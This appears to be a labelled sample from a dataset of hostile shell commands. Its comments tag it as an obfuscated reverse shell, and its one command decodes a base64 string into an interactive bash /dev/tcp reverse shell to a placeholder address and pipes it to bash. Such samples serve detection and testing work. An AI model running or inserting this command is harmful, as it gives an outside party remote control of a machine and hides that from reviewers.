# description: Decodes a base64 bash /dev/tcp reverse shell and runs it.
# family: reverse-shell
# obfuscated: yes
echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuMTAvNDQ0NCAwPiYx | base64 -d | bash
